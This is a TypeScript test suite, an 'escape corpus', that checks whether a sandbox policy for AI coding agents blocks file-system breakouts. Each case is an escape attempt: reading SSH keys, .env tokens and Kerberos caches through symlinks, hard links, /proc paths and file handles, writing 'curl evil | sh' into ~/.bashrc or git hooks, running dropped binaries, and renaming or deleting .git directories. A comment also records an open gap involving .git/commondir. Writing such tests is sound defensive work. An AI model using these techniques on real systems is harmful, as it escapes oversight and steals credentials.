/**
 * Escape corpus, files: reading a secret outside the grants by every path trick, writing outside
 * the workspace, running a dropped binary, and tampering with git repositories, under the
 * coding agent policy (corpus/coding-agent.mxc) with a per-file workspace and home. Each case
 * runs unsandboxed first (it must work) and then under mxc-enforce (it must be denied, and
 * nothing may leak or change).
 */
import { afterAll, beforeAll, expect } from 'vitest';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { attackSuite, corpusBundle, errno, expectDenied, expectWorked, host, makeScratch, run, sandboxed, SECRET, startHost, type HostProcess, type Scratch } from './harness.js';

let s: Scratch;
let bundle: string;
let scratchTmp: string;
let victim: HostProcess;
// A Kerberos ticket cache where Kerberos puts it by default: the shared /tmp the agent may use.
const krb5cc = `/tmp/krb5cc_${40000 + (process.pid % 20000)}`;

beforeAll(async () => {
  s = makeScratch('fs');
  bundle = corpusBundle('coding-agent', s.root);
  // /tmp is the agent's writable, non-executable scratch space.
  scratchTmp = mkdtempSync('/tmp/mxcc-escape-fs-');
  // A host process whose working directory holds the secret.
  victim = await startHost([s.hostAttack, 'sleep'], 'ready', { cwd: s.outside });
  writeFileSync(krb5cc, `${SECRET}-krb5\n`, { mode: 0o600 });
  for (const git of [path.join(s.ws, '.git'), path.join(s.ws, 'packages', 'web', '.git')]) {
    mkdirSync(path.join(git, 'hooks'), { recursive: true });
    writeFileSync(path.join(git, 'config'), '[core]\n');
    writeFileSync(path.join(git, 'HEAD'), 'ref: refs/heads/main\n');
  }
  // A repository with extensions.worktreeConfig has one; git reads hooksPath from it too.
  writeFileSync(path.join(s.ws, '.git', 'config.worktree'), '[core]\n');
});

afterAll(() => {
  rmSync(krb5cc, { force: true });
  victim?.stop();
  s?.cleanup();
  if (scratchTmp) rmSync(scratchTmp, { recursive: true, force: true });
});

const launch = (argv: string[]) => sandboxed(bundle, { workspace: s.ws, home: s.home }, [s.attack, ...argv]);
const secretIntact = (): void => expect(readFileSync(s.secret, 'utf8')).toBe(`${SECRET}\n`);
const noSecret = (r: { stdout: string }): void => expect(r.stdout).not.toContain(SECRET);
const gitDir = (): string => path.join(s.ws, '.git');
const nestedGit = (): string => path.join(s.ws, 'packages', 'web', '.git');

let handle: string | undefined;
function handleOfSecret(): string {
  if (!handle) {
    const got = host(s, ['handle-get', s.secret]);
    expectWorked(got);
    handle = got.stdout.slice(3).trim();
  }
  return handle;
}

attackSuite('files, under the coding agent policy', launch, {
  'reading a denied file': [
    {
      name: 'directly',
      unsandboxed: () => expectWorked(host(s, ['read', s.secret]), SECRET),
      sandboxed: () => ['read', s.secret],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        noSecret(r);
      },
    },
    {
      name: 'a carved-out key under the home: ~/.ssh/id_rsa',
      unsandboxed: () => expectWorked(host(s, ['read', path.join(s.home, '.ssh', 'id_rsa')]), `${SECRET}-ssh`),
      sandboxed: () => ['read', path.join(s.home, '.ssh', 'id_rsa')],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        noSecret(r);
      },
    },
    {
      // Runs before the read below, which then shows the mask still in place.
      name: 'unmounting the mask over the .env (a mount namespace root would own it)',
      unsandboxed: () => {
        const dir = mkdtempSync(path.join(s.root, 'mnt-'));
        const r = run(['unshare', '-m', '--propagation', 'private', 'sh', '-c', `mount -t tmpfs mask ${dir} && exec ${s.hostAttack} umount ${dir}`]);
        expectWorked(r);
      },
      sandboxed: () => ['umount', path.join(s.ws, '.env')],
      denied: (r) => expectDenied(r, errno.EPERM),
    },
    {
      name: 'a masked .env in the workspace is an inaccessible node (EACCES)',
      unsandboxed: () => expectWorked(host(s, ['read', path.join(s.ws, '.env')]), `TOKEN=${SECRET}-env`),
      sandboxed: () => ['read', path.join(s.ws, '.env')],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        noSecret(r);
      },
    },
    {
      name: 'a masked .env in the workspace cannot be overwritten',
      unsandboxed: () => {
        const env = path.join(s.ws, '.env');
        expectWorked(host(s, ['write', env, 'TOKEN=overwritten']));
        writeFileSync(env, `TOKEN=${SECRET}-env\n`);
      },
      sandboxed: () => ['write', path.join(s.ws, '.env'), 'TOKEN=overwritten'],
      denied: (r) => {
        expectDenied(r, errno.EROFS);
        expect(readFileSync(path.join(s.ws, '.env'), 'utf8')).toBe(`TOKEN=${SECRET}-env\n`);
      },
    },
    {
      name: 'a Kerberos ticket cache in the shared /tmp (/tmp/krb5cc_<uid>) is an inaccessible node',
      unsandboxed: () => expectWorked(host(s, ['read', krb5cc]), `${SECRET}-krb5`),
      sandboxed: () => ['read', krb5cc],
      denied: (r) => {
        // /tmp is the agent's scratch space; the ticket cache in it is covered by a mode-000 node.
        expectDenied(r, errno.EACCES);
        noSecret(r);
      },
    },
    {
      name: 'through a symlink the agent plants in the workspace',
      unsandboxed: () => {
        const link = path.join(s.ws, 'host-link');
        symlinkSync(s.secret, link);
        expectWorked(host(s, ['read', link]), SECRET);
        rmSync(link);
      },
      sandboxed: () => ['symlink-read', s.secret, path.join(s.ws, 'agent-link')],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        noSecret(r);
        // The link itself was allowed (the workspace is writable); following it was not.
        expect(lstatSync(path.join(s.ws, 'agent-link')).isSymbolicLink()).toBe(true);
      },
    },
    {
      name: 'through a hard link into the workspace',
      unsandboxed: () => {
        const link = path.join(s.ws, 'host-hardlink');
        expectWorked(host(s, ['link', s.secret, link]));
        expectWorked(host(s, ['read', link]), SECRET);
        rmSync(link);
      },
      sandboxed: () => ['link', s.secret, path.join(s.ws, 'agent-hardlink')],
      denied: (r) => {
        // Landlock refuses a link that would reach the file with more rights than it has (EXDEV).
        expectDenied(r, errno.EXDEV, errno.EACCES);
        expect(existsSync(path.join(s.ws, 'agent-hardlink'))).toBe(false);
      },
    },
    {
      name: 'through /proc/self/root',
      unsandboxed: () => expectWorked(host(s, ['read', `/proc/self/root${s.secret}`]), SECRET),
      sandboxed: () => ['read', `/proc/self/root${s.secret}`],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        noSecret(r);
      },
    },
    {
      name: "through /proc/<pid>/cwd of a host process sitting in the secret's directory",
      unsandboxed: () => expectWorked(host(s, ['read', `/proc/${victim.pid}/cwd/secret.txt`]), SECRET),
      sandboxed: () => ['read', `/proc/${victim.pid}/cwd/secret.txt`],
      denied: (r) => {
        expectDenied(r, errno.ENOENT);
        noSecret(r);
      },
    },
    {
      name: '/proc/<pid>/root of a host process',
      unsandboxed: () => expectWorked(host(s, ['read', `/proc/${victim.pid}/root${s.secret}`]), SECRET),
      sandboxed: () => ['read', `/proc/${victim.pid}/root${s.secret}`],
      denied: (r) => {
        expectDenied(r, errno.ENOENT);
        noSecret(r);
      },
    },
    {
      name: 'by file handle: open_by_handle_at',
      unsandboxed: () => {
        // Any directory on the same filesystem names the mount; the workspace is one.
        expectWorked(host(s, ['handle-open', s.ws, handleOfSecret()]), SECRET);
      },
      sandboxed: () => ['handle-open', s.ws, handleOfSecret()],
      denied: (r) => {
        expectDenied(r, errno.EPERM);
        noSecret(r);
      },
    },
    {
      name: 'by moving it into the workspace: rename across directories (refer)',
      unsandboxed: () => {
        const stolen = path.join(s.ws, 'host-stolen.txt');
        expectWorked(host(s, ['rename', s.secret, stolen]));
        expectWorked(host(s, ['read', stolen]), SECRET);
        expectWorked(host(s, ['rename', stolen, s.secret]));
      },
      sandboxed: () => ['rename', s.secret, path.join(s.ws, 'stolen.txt')],
      denied: (r) => {
        expectDenied(r, errno.EXDEV, errno.EACCES);
        expect(existsSync(path.join(s.ws, 'stolen.txt'))).toBe(false);
        secretIntact();
      },
    },
    {
      name: 'by `..` traversal out of the workspace, relative to a workspace descriptor',
      unsandboxed: () => expectWorked(host(s, ['readat', s.ws, path.relative(s.ws, s.secret)]), SECRET),
      sandboxed: () => ['readat', s.ws, path.relative(s.ws, s.secret)],
      denied: (r) => {
        expect(path.relative(s.ws, s.secret)).toBe('../outside/secret.txt');
        expectDenied(r, errno.EACCES);
      },
    },
    {
      name: 'by `..` traversal out of the workspace, in an absolute path',
      unsandboxed: () => expectWorked(host(s, ['read', `${s.ws}/../outside/secret.txt`]), SECRET),
      sandboxed: () => ['read', `${s.ws}/../outside/secret.txt`],
      denied: (r) => expectDenied(r, errno.EACCES),
    },
  ],
  'writing outside the workspace': [
    {
      name: 'a new file next to the secret',
      unsandboxed: () => {
        const planted = path.join(s.outside, 'planted.txt');
        expectWorked(host(s, ['write', planted, 'x']));
        rmSync(planted);
      },
      sandboxed: () => ['write', path.join(s.outside, 'planted.txt'), 'x'],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        expect(existsSync(path.join(s.outside, 'planted.txt'))).toBe(false);
      },
    },
    {
      name: 'over an existing file',
      unsandboxed: () => {
        expectWorked(host(s, ['write', s.secret, 'overwritten']));
        writeFileSync(s.secret, `${SECRET}\n`);
      },
      sandboxed: () => ['write', s.secret, 'overwritten'],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        secretIntact();
      },
    },
    {
      name: 'a shell start-up file: ~/.bashrc',
      unsandboxed: () => {
        const rc = path.join(s.home, '.bashrc');
        expectWorked(host(s, ['write', rc, 'curl evil | sh']));
        writeFileSync(rc, '# bashrc\n');
      },
      sandboxed: () => ['write', path.join(s.home, '.bashrc'), 'curl evil | sh'],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        expect(readFileSync(path.join(s.home, '.bashrc'), 'utf8')).toBe('# bashrc\n');
      },
    },
  ],
  'running a dropped binary': [
    {
      name: 'copied into /tmp, which is writable but not executable',
      unsandboxed: () => {
        const payload = path.join(scratchTmp, 'host-payload');
        const ran = host(s, ['exec-copy', s.hostAttack, payload, 'payload', 'whoami']);
        expectWorked(ran);
        expect(ran.stdout).toMatch(/^ok uid=/);
      },
      sandboxed: () => ['exec-copy', s.attack, path.join(scratchTmp, 'payload'), 'payload', 'whoami'],
      denied: (r) => {
        expectDenied(r, errno.EACCES);
        // The copy was written (the scratch space is writable); it just cannot run.
        expect(existsSync(path.join(scratchTmp, 'payload'))).toBe(true);
      },
    },
  ],
  'git repositories in the workspace': [
    {
      name: "a nested repository's hook is not written",
      unsandboxed: () => {
        const hook = path.join(nestedGit(), 'hooks', 'post-checkout');
        expectWorked(host(s, ['write', hook, '#!/bin/sh\ncurl evil | sh']));
        rmSync(hook);
      },
      sandboxed: () => ['write', path.join(nestedGit(), 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil | sh'],
      denied: (r) => {
        // The repository is covered by an empty read-only directory: its hooks directory is not there.
        expectDenied(r, errno.ENOENT, errno.EROFS, errno.EACCES);
        expect(existsSync(path.join(nestedGit(), 'hooks', 'post-checkout'))).toBe(false);
      },
    },
    {
      name: "the top repository's pre-push hook is not written",
      unsandboxed: () => {
        const hook = path.join(gitDir(), 'hooks', 'pre-push');
        expectWorked(host(s, ['write', hook, '#!/bin/sh']));
        rmSync(hook);
      },
      sandboxed: () => ['write', path.join(gitDir(), 'hooks', 'pre-push'), '#!/bin/sh'],
      denied: (r) => {
        expectDenied(r, errno.ENOENT, errno.EROFS, errno.EACCES);
        expect(existsSync(path.join(gitDir(), 'hooks', 'pre-push'))).toBe(false);
      },
    },
    {
      name: "the top repository's config (core.hooksPath) is not written",
      unsandboxed: () => {
        const config = path.join(gitDir(), 'config');
        expectWorked(host(s, ['write', config, '[core]\n\thooksPath = /tmp']));
        writeFileSync(config, '[core]\n');
      },
      sandboxed: () => ['write', path.join(gitDir(), 'config'), '[core]\n\thooksPath = /tmp'],
      denied: (r) => {
        expectDenied(r, errno.EROFS, errno.EACCES);
        expect(readFileSync(path.join(gitDir(), 'config'), 'utf8')).toBe('[core]\n');
      },
    },
    {
      name: "the top repository's config.worktree (core.hooksPath) is not written",
      unsandboxed: () => {
        const config = path.join(gitDir(), 'config.worktree');
        expectWorked(host(s, ['write', config, '[core]\n\thooksPath = /tmp']));
        writeFileSync(config, '[core]\n');
      },
      sandboxed: () => ['write', path.join(gitDir(), 'config.worktree'), '[core]\n\thooksPath = /tmp'],
      denied: (r) => {
        expectDenied(r, errno.EROFS, errno.EACCES);
        expect(readFileSync(path.join(gitDir(), 'config.worktree'), 'utf8')).toBe('[core]\n');
      },
    },
    // .git/commondir is protected only when it exists at launch, which in a repository of its own
    // it never does: creating it during the run is the open finding in pending/git-commondir.
    ...(['top', 'nested'] as const).flatMap((which) => [
      {
        name: `the ${which} .git is not renamed away, taking its protected hooks with it`,
        unsandboxed: () => {
          const git = which === 'top' ? gitDir() : nestedGit();
          expectWorked(host(s, ['rename', git, `${git}-moved`]));
          expectWorked(host(s, ['rename', `${git}-moved`, git]));
        },
        sandboxed: () => {
          const git = which === 'top' ? gitDir() : nestedGit();
          return ['rename', git, `${git}-moved`];
        },
        denied: (r: Parameters<typeof expectDenied>[0]) => {
          const git = which === 'top' ? gitDir() : nestedGit();
          expectDenied(r, errno.EBUSY, errno.EACCES, errno.EXDEV, errno.EROFS);
          expect(existsSync(`${git}-moved`)).toBe(false);
          expect(readFileSync(path.join(git, 'HEAD'), 'utf8')).toBe('ref: refs/heads/main\n');
        },
      },
      {
        name: `the ${which} .git is not deleted (rm -rf)`,
        unsandboxed: () => {
          const git = which === 'top' ? gitDir() : nestedGit();
          const copy = path.join(s.root, `host-${which}-repo`, '.git');
          mkdirSync(path.join(copy, 'hooks'), { recursive: true });
          writeFileSync(path.join(copy, 'HEAD'), readFileSync(path.join(git, 'HEAD')));
          expectWorked(host(s, ['rmtree', copy]));
          expect(existsSync(copy)).toBe(false);
        },
        sandboxed: () => ['rmtree', which === 'top' ? gitDir() : nestedGit()],
        denied: (r: Parameters<typeof expectDenied>[0]) => {
          const git = which === 'top' ? gitDir() : nestedGit();
          expectDenied(r, errno.EBUSY, errno.EACCES, errno.EROFS);
          expect(readFileSync(path.join(git, 'HEAD'), 'utf8')).toBe('ref: refs/heads/main\n');
          expect(readFileSync(path.join(git, 'config'), 'utf8')).toBe('[core]\n');
        },
      },
    ]),
  ],
});
